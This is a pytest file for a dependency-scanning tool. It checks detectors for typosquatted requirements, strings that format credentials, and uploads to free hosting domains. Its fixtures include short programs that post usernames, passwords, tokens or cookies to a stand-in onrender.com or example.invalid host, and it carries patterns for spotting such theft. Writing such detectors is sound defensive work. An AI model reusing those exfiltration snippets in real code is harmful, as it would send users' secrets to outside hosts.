"""What weighs more beside something else: requirements of copies, names in the manner of their requirement, what is told and how."""

from __future__ import annotations

from pathlib import Path

import pytest

from bonded.checks.harness import FLAG, Sample, findings, samples
from bonded.checks.registry import by_name
from bonded.values.finding import Finding, Severity
from tests.facts.programs import wheel


def found(check: str, sample: str) -> tuple[Finding, ...]:
    known = by_name(check)
    assert known is not None
    return findings(known, next(one for one in samples(known) if one.path.stem == sample))


def test_a_copy_that_requires_a_near_name_is_grave() -> None:
    (one,) = found("requirement-deception", "copy")
    assert one.severity is Severity.HIGH
    assert "of its functions are those of" in one.message


def test_a_name_twisted_as_that_of_its_requirement_is_meant() -> None:
    (one,) = found("requirement-deception", "twisted")
    assert one.severity is Severity.MEDIUM
    assert "its own name begins so too" in one.message
    (alone,) = found("requirement-deception", "near")
    assert alone.severity is Severity.LOW


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("f'User: {a}\\nToken: {b}'", True),
        ("'Password: ' + a + ', seed: ' + b", True),
        ("'login: %s | pass: %s' % (a, b)", True),
        ("'E-Mail: {} Cookies: {}'.format(a, b)", True),
        ("f'Password: {a}'", False),
        ("f'user={a}&password={b}'", False),
        ("f'Name: {a}\\nCity: {b}'", False),
        ("'User: ann\\nPassword: unknown' + a", False),
    ],
)
def test_texts_that_give_secrets_away(text: str, told: bool) -> None:
    facts = wheel(
        sample=f"import requests\ndef send(a, b):\n    requests.post('https://example.invalid/', json=[{text}])\n"
    )
    labels = {
        label for module in facts.modules for call in module.calls for one in call.arguments for label in one.labels
    }
    assert ("report" in labels) is told


FREE = "https://not_a_name.onrender.com"
HOSTS = [
    ("questionable-destination", f"import requests\nrequests.post('{FREE}/seen', json=[1])\n", Severity.HIGH),
    (
        "questionable-destination",
        f"import requests\ndef ask(x):\n    return requests.get('{FREE}/' + x).json()\n",
        None,
    ),
    ("questionable-destination", f"import requests\ndef tell(x):\n    requests.get('{FREE}/' + x)\n", Severity.LOW),
    (
        "given-secret-sent",
        f"import requests\ndef tell(a, b):\n    requests.post('{FREE}', json={{'c': f'User: {{a}}, Pass: {{b}}'}})\n",
        Severity.HIGH,
    ),
    (
        "given-secret-sent",
        f"import requests\ndef enter(user, password):\n    requests.post('{FREE}', json={{'u': user, 'p': password}})\n",
        None,
    ),
]


@pytest.mark.parametrize(("check", "program", "severity"), HOSTS, ids=range(len(HOSTS)))
def test_hosts_that_anybody_has_for_nothing(
    check: str, program: str, severity: Severity | None, tmp_path: Path
) -> None:
    known, path = by_name(check), tmp_path / "client.py"
    assert known is not None
    path.write_text(program)
    assert [one.severity for one in findings(known, Sample(path, FLAG))] == ([] if severity is None else [severity])
